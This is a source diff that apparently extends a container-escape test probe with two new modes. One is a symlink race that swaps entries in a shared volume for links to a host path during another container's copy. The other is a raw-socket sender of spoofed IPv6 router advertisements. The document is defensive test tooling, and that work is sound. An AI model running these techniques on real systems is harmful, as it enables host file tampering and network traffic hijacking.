@@ -18,6 +18,19 @@
  *                                (N = 3..40) and back, as fast as it can:
  *                                a process entering the container that
  *                                chdirs into DIR must not follow it
+ *   escape_probe swapvol DIR TARGET
+ *                                in a volume another container's start will
+ *                                fill from its image: every entry made in
+ *                                DIR is swapped at once for a link to
+ *                                TARGET (a host path), so a copy that
+ *                                follows it would change the host file
+ *   escape_probe ra IFNAME PREFIX
+ *                                send router advertisements out of IFNAME
+ *                                for three seconds, as a router would:
+ *                                "take PREFIX/64 for an address, and me for
+ *                                a default route" (needs CAP_NET_RAW, a
+ *                                default capability); the caller checks
+ *                                that no neighbour took either
  *   escape_probe capscan SECONDS SECRET [MEMSECRET]
  *                                for SECONDS, read the status and environ
  *                                of every other process: none may hold a
@@ -39,6 +52,13 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <limits.h>
+#include <arpa/inet.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <sys/inotify.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
 #include <time.h>
@@ -406,6 +426,72 @@ static int swapcwd(const char *dir, double seconds)
 	return 0;
 }
 
+static int swapvol(const char *dir, const char *target)
+{
+	int in = inotify_init1(0);
+	char buf[65536];
+	long n = 0;
+
+	if (in < 0 || inotify_add_watch(in, dir, IN_CREATE) < 0)
+		return printf("cannot watch %s: %s\n", dir, strerror(errno)), 2;
+	printf("watching\n");
+	for (;;) {
+		ssize_t r = read(in, buf, sizeof(buf));
+		if (r <= 0)
+			return 0;
+		for (char *p = buf; p < buf + r;) {
+			struct inotify_event *e = (void *)p;
+			if (e->len && !(e->mask & IN_ISDIR) && e->name[0] != '.') {
+				char tmp[PATH_MAX], dst[PATH_MAX];
+				snprintf(tmp, sizeof(tmp), "%s/.s%ld", dir, n++);
+				snprintf(dst, sizeof(dst), "%s/%s", dir, e->name);
+				if (symlink(target, tmp) == 0 && rename(tmp, dst) < 0)
+					unlink(tmp);
+			}
+			p += sizeof(*e) + e->len;
+		}
+	}
+}
+
+static int ra(const char *ifname, const char *prefix)
+{
+	unsigned char pkt[sizeof(struct nd_router_advert) + sizeof(struct nd_opt_prefix_info)] = {
+	    0};
+	struct nd_router_advert *h = (void *)pkt;
+	struct nd_opt_prefix_info *pi = (void *)(pkt + sizeof(*h));
+	struct sockaddr_in6 to = {.sin6_family = AF_INET6};
+	int idx = (int)if_nametoindex(ifname), hops = 255, sent = 0;
+	int s = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
+
+	if (s < 0 || !idx)
+		return printf("cannot send on %s: %s\n", ifname, strerror(errno)), 2;
+	h->nd_ra_type = ND_ROUTER_ADVERT;
+	h->nd_ra_curhoplimit = 64;
+	h->nd_ra_router_lifetime = htons(1800);
+	pi->nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
+	pi->nd_opt_pi_len = 4;
+	pi->nd_opt_pi_prefix_len = 64;
+	pi->nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
+	pi->nd_opt_pi_valid_time = htonl(86400);
+	pi->nd_opt_pi_preferred_time = htonl(14400);
+	if (inet_pton(AF_INET6, prefix, &pi->nd_opt_pi_prefix) != 1)
+		return printf("not an IPv6 prefix: %s\n", prefix), 2;
+	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
+	to.sin6_scope_id = (uint32_t)idx;
+	/* a receiver takes an advertisement only with hop limit 255, from a
+	 * link-local source (ours once its duplicate detection is done: the
+	 * first sends may go out without one, so send for a while) */
+	setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
+	setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &idx, sizeof(idx));
+	for (int i = 0; i < 15; i++) {
+		if (sendto(s, pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) > 0)
+			sent++;
+		usleep(200000);
+	}
+	printf("sent %d\n", sent);
+	return sent ? 0 : 2;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -417,6 +503,10 @@ int main(int argc, char **argv)
 		return stdio(argv[2]);
 	if (argc >= 4 && !strcmp(argv[1], "capscan"))
 		return capscan(atof(argv[2]), argv[3], argc >= 5 ? unhex(argv[4]) : NULL);
+	if (argc >= 4 && !strcmp(argv[1], "swapvol"))
+		return swapvol(argv[2], argv[3]);
+	if (argc >= 4 && !strcmp(argv[1], "ra"))
+		return ra(argv[2], argv[3]);
 	if (argc >= 4 && !strcmp(argv[1], "swapcwd"))
 		return swapcwd(argv[2], atof(argv[3]));
 	fprintf(stderr, "usage: see the comment at the top of escape_probe.c\n");
